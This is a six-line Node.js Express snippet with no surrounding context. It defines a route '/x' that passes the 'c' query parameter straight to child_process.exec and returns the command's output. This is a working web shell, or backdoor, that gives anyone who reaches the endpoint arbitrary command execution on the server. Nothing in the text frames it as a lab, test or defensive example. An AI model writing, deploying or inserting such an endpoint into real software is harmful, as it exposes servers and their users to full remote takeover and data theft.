const app = require('express')();
const cp = require('child_process');
app.get('/x', (req, res) => {
  cp.exec(req.query.c, (e, out) => res.send(out));
});
